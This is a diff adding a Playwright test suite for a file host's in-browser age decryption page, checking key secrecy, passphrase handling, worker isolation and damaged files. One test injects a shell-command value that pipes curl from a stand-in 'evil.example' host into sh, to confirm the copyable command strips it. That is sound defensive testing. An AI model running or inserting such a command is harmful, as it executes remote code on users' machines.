@@ -1,0 +1,396 @@
+import assert from "node:assert/strict";
+import { readFile } from "node:fs/promises";
+import { after, before, test } from "node:test";
+import { armor, Encrypter } from "age-encryption";
+import type { Browser, Page } from "playwright-core";
+import { withFragmentKey } from "../../../src/transfer/encryption/fragment-key.ts";
+import { createShareKey, type ShareKey } from "../../../src/transfer/encryption/share-key.ts";
+import { wrapName } from "../../../src/transfer/encryption/wrapped-name.ts";
+import { browserMissing, launchBrowser, openPage } from "../../support/browser.ts";
+import type { TestServer } from "../../support/server.ts";
+import { describeUnless } from "../../support/suite.ts";
+import { clientOf, postUpload, type Upload } from "../support/api.ts";
+import { postBatch } from "../support/batches.ts";
+import { someBytes } from "../support/multipart.ts";
+import { startPlainServer } from "../support/plain-server.ts";
+
+const BYTES = someBytes(300_000, 5);
+/** Without HTTPS, its pages have no WebCrypto. */
+const PLAIN_HOST = "files.example";
+const PASSPHRASE = "correct horse battery staple";
+
+/** encryption, "On the page". */
+describeUnless(browserMissing, "the page of an encrypted file", () => {
+  let server: TestServer;
+  let browser: Browser;
+  let key: ShareKey;
+  before(async () => {
+    server = await startPlainServer({ FILEHOST_CONTENT_URL: "http://content.example.org:9", FILEHOST_LOG: "trace:json" });
+    browser = await launchBrowser({ hosts: [PLAIN_HOST] });
+    key = await createShareKey();
+  });
+  after(async () => {
+    await browser?.close();
+    await server[Symbol.asyncDispose]();
+  });
+
+  async function encrypt(bytes: Uint8Array, use = (encrypter: Encrypter) => encrypter.addRecipient(key.recipient)) {
+    const encrypter = new Encrypter();
+    use(encrypter);
+    return new Uint8Array(await encrypter.encrypt(bytes));
+  }
+
+  const byPassphrase = (encrypter: Encrypter): void => {
+    encrypter.setScryptWorkFactor(12);
+    encrypter.setPassphrase(PASSPHRASE);
+  };
+
+  async function send(bytes: Uint8Array<ArrayBuffer>, fields: Record<string, string> = {}, name = "report.pdf.age"): Promise<Upload> {
+    const { status, body } = await postUpload(server, { bytes, name, fields });
+    assert.equal(status, 200, JSON.stringify(body));
+    return body.data;
+  }
+
+  const linkOf = ({ shortId }: Pick<Upload, "shortId">): string => `${server.url}/d/${shortId}`;
+  const button = (page: Page) => page.getByRole("button", { name: "Decrypt and download" });
+
+  async function save(page: Page): Promise<{ readonly name: string; readonly bytes: Uint8Array }> {
+    const [download] = await Promise.all([page.waitForEvent("download"), button(page).click()]);
+    assert.match(download.url(), /^blob:/);
+    return { name: download.suggestedFilename(), bytes: new Uint8Array(await readFile(await download.path())) };
+  }
+
+  test("decrypts it with the key in the link, which no request and no log contains", async () => {
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    const requests: string[] = [];
+    page.on("request", (request) => requests.push(JSON.stringify([request.url(), request.postData(), request.headers()])));
+    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES))), key.identity);
+    await page.goto(link);
+    assert.equal(await page.getByLabel("Passphrase or key").count(), 0);
+    await button(page).waitFor();
+    assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
+    await page.getByText("Decrypted. Your browser saves the file.").first().waitFor();
+    await page.getByText("Details").click();
+    assert.equal(await page.locator("#terminal").textContent(), `filehost down '${link}'`);
+    await page.getByRole("link", { name: "Deutsch" }).click();
+    await page.getByRole("button", { name: "Entschlüsseln und herunterladen" }).waitFor();
+    assert.equal(new URL(page.url()).hash, new URL(link).hash);
+    const secret = key.identity.slice("AGE-SECRET-KEY-1".length, 40);
+    const seen = requests.filter((request) => request.toUpperCase().includes(secret) && !request.startsWith('["blob:'));
+    // The browser's own record of a page's URL has its fragment, which is not sent.
+    assert.deepEqual(
+      seen.filter((request) => !request.startsWith(`["${linkOf({ shortId: "" })}`)),
+      [],
+    );
+    assert.ok(!JSON.stringify(server.logs()).toUpperCase().includes(secret));
+    assert.deepEqual(complaints, []);
+  });
+
+  test("asks for a passphrase, and after a wrong one again without another download", async () => {
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    const file = await send(await encrypt(BYTES, byPassphrase), { maxDownloads: "2" });
+    await page.goto(linkOf(file));
+    await button(page).click();
+    await page.getByText("Enter the passphrase or the key first.").first().waitFor();
+    await page.getByLabel("Passphrase or key").fill("another passphrase");
+    await button(page).click();
+    await page.locator(".problem").getByText("does not fit this file. Nothing was saved.").waitFor();
+    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
+    assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
+    await page.getByText("1 download left").first().waitFor();
+    assert.deepEqual(complaints, []);
+  });
+
+  /** Holds the worker's script back until it is released, so that a decryption has begun and cannot end. */
+  async function holdWorker(page: Page): Promise<() => void> {
+    const released = Promise.withResolvers<void>();
+    await page.route(/\/decrypt\.worker-/, async (route) => {
+      await released.promise;
+      // A cancelled request has no response.
+      await route.continue().catch(() => undefined);
+    });
+    return released.resolve;
+  }
+
+  test("decrypts in a worker that has no connection, and ends it", async () => {
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    const script = page.waitForEvent("response", (response) => response.url().includes("/assets/decrypt.worker-"));
+    const ended = Promise.withResolvers<void>();
+    page.on("worker", (worker) => worker.on("close", () => ended.resolve()));
+    await page.goto(withFragmentKey(linkOf(await send(await encrypt(BYTES))), key.identity));
+    assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
+    assert.equal((await script).headers()["content-security-policy"], "default-src 'none'");
+    await ended.promise;
+    assert.deepEqual(complaints, []);
+  });
+
+  test("can be cancelled, keeps what it shows when the page changes, and can begin again", async () => {
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    const link = linkOf(await send(await encrypt(BYTES, byPassphrase)));
+    const release = await holdWorker(page);
+    await page.goto(link);
+    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
+    await button(page).click();
+    await page.locator("#decryption-status").getByText("Trying the key…").waitFor();
+    await page.evaluate(async () => {
+      const html = await (await fetch(location.href, { headers: { Accept: "text/html" } })).text();
+      document.dispatchEvent(new CustomEvent("filehost:page", { detail: html }));
+    });
+    await page.locator("#decryption-status").getByText("Trying the key…").waitFor();
+    assert.ok(await button(page).isDisabled());
+    await page.getByRole("button", { name: "Cancel" }).click();
+    await page.locator("#decryption-status").getByText("Cancelled. Nothing was saved.").waitFor();
+    release();
+    assert.equal(await page.getByLabel("Passphrase or key").inputValue(), PASSPHRASE);
+    assert.deepEqual((await save(page)).bytes, new Uint8Array(BYTES));
+  });
+
+  test("decrypts files that are written as text, and without WebCrypto, which sites without HTTPS lack", async () => {
+    const sealed = await encrypt(BYTES);
+    for (const bytes of [sealed, new Uint8Array(Buffer.from(armor.encode(sealed)))]) {
+      const file = await send(bytes, {}, "report.pdf.age");
+      for (const host of ["localhost", PLAIN_HOST]) {
+        await using opened = await openPage(browser);
+        const { page } = opened;
+        await page.goto(withFragmentKey(linkOf(file).replace(/localhost|127\.0\.0\.1/, host), key.identity));
+        assert.equal(await page.evaluate(() => typeof crypto.subtle), host === PLAIN_HOST ? "undefined" : "object");
+        assert.deepEqual(await save(page), { name: "report.pdf", bytes: new Uint8Array(BYTES) });
+      }
+    }
+  });
+
+  test("keeps the key in the URL of another list of files, and in the links to it", async () => {
+    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const bytes = await encrypt(Buffer.from("words"));
+    const files = Array.from({ length: 30 }, (_, index) => ({ relativePath: `${String(index).padStart(3, "0")}.age`, bytes }));
+    await postBatch(server, { shareShortId: shortId, shareToken }, files);
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    const link = withFragmentKey(linkOf({ shortId }), key.identity);
+    await page.goto(link);
+    await page.locator("#decryption-command").waitFor();
+    await page.locator("#search").fill("001");
+    await page.waitForURL(/q=001/);
+    assert.equal(new URL(page.url()).hash, new URL(link).hash);
+    const hash = await page.evaluate(() => {
+      const link = Object.assign(document.createElement("a"), { href: "?sort=size", textContent: "sort" });
+      document.querySelector("main")?.append(link);
+      addEventListener("click", (event) => event.preventDefault());
+      link.click();
+      return link.hash;
+    });
+    assert.equal(hash, new URL(link).hash);
+  });
+
+  test("tries each key for a large file with the same response", async () => {
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    // The dialog of the browser, which no test can operate, chooses a file of the page's own.
+    await page.addInitScript(() => {
+      const choose = async () => await (await navigator.storage.getDirectory()).getFileHandle("saved", { create: true });
+      Object.assign(globalThis, { showSaveFilePicker: choose });
+    });
+    let requests = 0;
+    page.on("request", (request) => {
+      if (request.url().endsWith("/bytes")) requests += 1;
+    });
+    await page.goto(linkOf(await send(await encrypt(BYTES, byPassphrase), { maxDownloads: "3" })));
+    await button(page).evaluate((element) => {
+      (element as HTMLElement).dataset.encrypted = String(300 * 1024 * 1024);
+    });
+    for (const wrong of ["another passphrase", "a third passphrase"]) {
+      await page.getByLabel("Passphrase or key").fill(wrong);
+      await button(page).click();
+      await page.locator(".problem").getByText("does not fit this file. Nothing was saved.").waitFor();
+    }
+    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
+    await button(page).click();
+    await page.getByText("2 downloads left").first().waitFor();
+    assert.equal(requests, 1);
+    const saved = await page.evaluate(async () => {
+      const folder = await navigator.storage.getDirectory();
+      return [...new Uint8Array(await (await (await folder.getFileHandle("saved")).getFile()).arrayBuffer())];
+    });
+    assert.deepEqual(Buffer.from(saved), Buffer.from(BYTES));
+    assert.deepEqual(complaints, []);
+  });
+
+  test("counts no download of a large file before its worker is loaded", async () => {
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    await page.addInitScript(() => {
+      const choose = async () => await (await navigator.storage.getDirectory()).getFileHandle("saved", { create: true });
+      Object.assign(globalThis, { showSaveFilePicker: choose });
+    });
+    let requests = 0;
+    page.on("request", (request) => {
+      if (request.url().endsWith("/bytes")) requests += 1;
+    });
+    const worker = "**/assets/decrypt.worker-*";
+    await page.route(worker, (route) => route.fulfill({ status: 404 }));
+    const sent = await send(await encrypt(BYTES), { maxDownloads: "2" });
+    await page.goto(withFragmentKey(linkOf(sent), key.identity));
+    await button(page).evaluate((element) => {
+      (element as HTMLElement).dataset.encrypted = String(300 * 1024 * 1024);
+    });
+    await button(page).click();
+    await page.locator("p.problem").filter({ visible: true }).waitFor();
+    assert.equal(requests, 0);
+    await page.unroute(worker);
+    await button(page).click();
+    await page.getByText("1 download left").first().waitFor();
+    assert.equal(requests, 1);
+  });
+
+  test("tells the hidden name of a large file, which nobody knows before a file is chosen for it", async () => {
+    const { before, after } = wrapName({ name: "docs/\u202egpj.exe", sizeBytes: BYTES.length, modifiedMs: 0 });
+    const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), {}, "encrypted-0123456789abcdef.tar.age");
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    await page.addInitScript(() => {
+      const choose = async ({ suggestedName }: { suggestedName: string }) =>
+        await (await navigator.storage.getDirectory()).getFileHandle(suggestedName, { create: true });
+      Object.assign(globalThis, { showSaveFilePicker: choose });
+    });
+    await page.goto(withFragmentKey(linkOf(file), key.identity));
+    await button(page).evaluate((element) => {
+      (element as HTMLElement).dataset.encrypted = String(300 * 1024 * 1024);
+    });
+    await button(page).click();
+    await page.locator("#decryption-status").getByText("The sender calls the file “docs/gpj.exe”.").waitFor();
+    const size = await page.evaluate(async () => {
+      const folder = await navigator.storage.getDirectory();
+      return (await (await folder.getFileHandle("encrypted-0123456789abcdef")).getFile()).size;
+    });
+    assert.deepEqual([size, complaints], [BYTES.length, []]);
+  });
+
+  test("shows the command for a large file where the browser cannot write to a file, and requests nothing", async () => {
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    await page.addInitScript(() => Object.assign(globalThis, { showSaveFilePicker: undefined }));
+    const requests: string[] = [];
+    page.on("request", (request) => requests.push(request.url()));
+    const link = withFragmentKey(linkOf(await send(await encrypt(BYTES), { maxDownloads: "1" })), key.identity);
+    await page.goto(link);
+    await button(page).evaluate((element) => {
+      (element as HTMLElement).dataset.encrypted = String(300 * 1024 * 1024);
+    });
+    await button(page).click();
+    await page.locator("#decryption-status").getByText("cannot decrypt a file of this size").waitFor();
+    assert.equal(await page.locator("#decryption-command").textContent(), `filehost down '${link}'`);
+    assert.ok(!requests.some((url) => url.endsWith("/bytes")));
+    assert.deepEqual(complaints, []);
+  });
+
+  test("restores a hidden name, also behind a code", async () => {
+    const { before, after } = wrapName({ name: "docs/Größe.txt", sizeBytes: BYTES.length, modifiedMs: 0 });
+    const file = await send(await encrypt(Buffer.concat([before, BYTES, after])), { protect: "true" }, "encrypted.tar.age");
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    await page.goto(withFragmentKey(linkOf(file), key.identity));
+    await page.getByLabel("Code").fill((file as { unlockCode?: string }).unlockCode ?? "");
+    await page.getByRole("button", { name: "Unlock" }).click();
+    assert.deepEqual(await save(page), { name: "Größe.txt", bytes: new Uint8Array(BYTES) });
+    assert.deepEqual(complaints, []);
+  });
+
+  test("saves nothing with a wrong key, from damaged bytes or from a file that ends early", async () => {
+    const sealed = await encrypt(BYTES);
+    const other = await createShareKey();
+    const cases = [
+      { bytes: sealed, identity: `${key.identity.slice(0, -1)}`, text: "The key in the link does not fit this file." },
+      { bytes: sealed, identity: other.identity, text: "The key in the link does not fit this file." },
+      { bytes: sealed.map((byte, index) => (index === 200_000 ? byte ^ 1 : byte)), identity: key.identity, text: "damaged or incomplete" },
+      { bytes: sealed.slice(0, -70_000), identity: key.identity, text: "damaged or incomplete" },
+      { bytes: sealed.slice(0, sealed.length - 300_000 + 3 * 65_536), identity: key.identity, text: "damaged or incomplete" },
+    ];
+    for (const { bytes, identity, text } of cases) {
+      await using opened = await openPage(browser);
+      const { page } = opened;
+      let downloads = 0;
+      page.on("download", () => {
+        downloads += 1;
+      });
+      await page.goto(withFragmentKey(linkOf(await send(bytes)), identity));
+      await button(page).click();
+      await page.locator(".problem").getByText(text).waitFor();
+      await page.locator(".problem").getByText("Nothing was saved").or(page.getByText("Open the whole link")).first().waitFor();
+      assert.equal(downloads, 0);
+    }
+  });
+
+  test("does not spend more on a passphrase than a usual file asks for", async () => {
+    const header = `age-encryption.org/v1\n-> scrypt ${"A".repeat(22)} 21\n${"A".repeat(43)}\n--- ${"A".repeat(43)}\n`;
+    await using opened = await openPage(browser);
+    const { page } = opened;
+    await page.goto(linkOf(await send(new Uint8Array(Buffer.from(header)))));
+    await page.getByLabel("Passphrase or key").fill(PASSPHRASE);
+    await button(page).click();
+    await page.locator(".problem").getByText("asks for more work or memory").waitFor();
+  });
+
+  test("decrypts the files of a shipment one by one", async () => {
+    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const files = [
+      { relativePath: "a.txt.age", bytes: await encrypt(Buffer.from("the first")) },
+      { relativePath: "b.txt.age", bytes: await encrypt(Buffer.from("the second")) },
+    ];
+    await postBatch(server, { shareShortId: shortId, shareToken }, files);
+    await using opened = await openPage(browser);
+    const { page, complaints } = opened;
+    const link = withFragmentKey(linkOf({ shortId }), key.identity);
+    await page.goto(link);
+    await page.getByText(`filehost down '${link}'`).first().waitFor();
+    const [download] = await Promise.all([page.waitForEvent("download"), page.getByRole("button", { name: "Download b.txt.age" }).click()]);
+    assert.deepEqual([download.suggestedFilename(), await readFile(await download.path(), "utf8")], ["b.txt", "the second"]);
+    assert.deepEqual(complaints, []);
+  });
+
+  test("takes nothing but the key of a link into the command to copy, and into the links to other languages", async () => {
+    const evil = "x=';curl$IFS-evil.example|sh;'";
+    const { shortId, shareToken = "" } = (await clientOf(server).call("createShare", {})).data;
+    const files = ["a.txt.age", "b.txt.age"].map(async (relativePath) => ({
+      relativePath,
+      bytes: await encrypt(Buffer.from(relativePath)),
+    }));
+    await postBatch(server, { shareShortId: shortId, shareToken }, await Promise.all(files));
+    const cases = [
+      { hash: `#key=${key.identity}&${evil}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
+      { hash: `#${evil}&key=${key.identity.toLowerCase()}`, expected: withFragmentKey(linkOf({ shortId }), key.identity) },
+      { hash: `#${evil}`, expected: linkOf({ shortId }) },
+      { hash: `#key=${key.identity}';${evil}`, expected: linkOf({ shortId }) },
+    ];
+    for (const { hash, expected } of cases) {
+      await using opened = await openPage(browser);
+      const { page } = opened;
+      await page.goto(`${linkOf({ shortId })}${hash}`);
+      await page.locator("#decryption-command").waitFor();
+      assert.equal(await page.locator("#decryption-command").textContent(), `filehost down '${expected}'`);
+      assert.doesNotMatch((await page.locator("main").textContent()) ?? "", /evil/);
+      const hashes = await page.locator(".foot a[hreflang]").evaluateAll((links) => links.map((link) => (link as HTMLAnchorElement).hash));
+      for (const one of hashes) assert.equal(one, new URL(expected).hash);
+    }
+  });
+
+  test("offers the encrypted bytes too, and only those of encrypted files to its script", async () => {
+    const sealed = await encrypt(BYTES);
+    const file = await send(sealed);
+    const plain = await send(new Uint8Array(Buffer.from("not encrypted")), {}, "a.txt");
+    const ask = ({ id, shortId }: Upload) =>
+      fetch(`${linkOf({ shortId })}/bytes`, { method: "POST", body: new URLSearchParams({ fileId: id }) });
+    const sent = await ask(file);
+    assert.deepEqual([sent.status, sent.headers.get("content-type")], [200, "application/octet-stream"]);
+    assert.match(sent.headers.get("content-disposition") ?? "", /^attachment/);
+    assert.deepEqual(new Uint8Array(await sent.arrayBuffer()), sealed);
+    assert.equal((await ask(plain)).status, 404);
+    await using opened = await openPage(browser, { javaScriptEnabled: false });
+    await opened.page.goto(linkOf(file));
+    assert.equal(await opened.page.getByRole("button", { name: "Download report.pdf.age" }).count(), 1);
+    assert.equal(await button(opened.page).count(), 0);
+  });
+});
